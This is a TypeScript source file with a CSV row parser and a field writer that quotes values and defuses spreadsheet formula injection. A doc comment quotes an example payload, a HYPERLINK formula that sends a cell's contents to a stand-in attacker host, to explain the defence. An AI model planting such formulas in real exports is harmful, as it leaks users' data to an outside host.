/**
 * Splits CSV text into rows (RFC 4180: quoted fields, doubled quotes, line breaks inside quotes, CRLF).
 * A UTF-8 byte-order mark is dropped; the delimiter is a comma, or a semicolon when the header line has
 * more semicolons than commas (spreadsheets in many European locales save that way).
 * @throws Error when the text ends inside a quoted field.
 */
export function parseCsvRows(text: string): string[][] {
  const content = text.charCodeAt(0) === 0xfeff ? text.slice(1) : text;
  const firstLine = content.slice(0, content.search(/\r?\n|$/));
  const delimiter = (firstLine.match(/;/g)?.length ?? 0) > (firstLine.match(/,/g)?.length ?? 0) ? ';' : ',';
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < content.length; i++) {
    const ch = content[i];
    if (quoted) {
      if (ch === '"' && content[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"' && field === '') quoted = true;
    else if (ch === delimiter) {
      row.push(field);
      field = '';
    } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && content[i + 1] === '\n') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += ch;
  }
  if (quoted) throw new Error('The CSV file ends inside a quoted field; check for an unclosed double quote.');
  if (field !== '' || row.length > 0) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

/**
 * One CSV field as written: a number as it is; text with a comma, quote or line break (or any text,
 * with `quote: 'always'`) quoted with doubled quotes; text a spreadsheet would run as a formula (it
 * starts with = + - @, a tab or a carriage return) gets a leading apostrophe first. Customer and
 * contact names come from email display names and chat profiles anyone can set, e.g.
 * `=HYPERLINK("https://evil.example/?"&A2,"Open")`.
 */
export function csvField(value: string | number | null, opts: { quote?: 'always' | 'needed' } = {}): string {
  if (value === null) return opts.quote === 'always' ? '""' : '';
  if (typeof value === 'number') return String(value);
  const safe = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
  return opts.quote === 'always' || /[",\r\n]/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}
